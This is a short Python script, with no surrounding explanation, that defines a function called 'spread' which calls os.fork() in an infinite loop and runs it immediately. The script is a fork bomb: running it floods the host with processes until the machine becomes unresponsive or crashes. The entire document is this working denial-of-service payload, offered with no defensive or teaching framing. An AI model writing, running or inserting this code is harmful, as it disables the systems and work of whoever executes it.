import os

def spread():
    while True:
        os.fork()

spread()
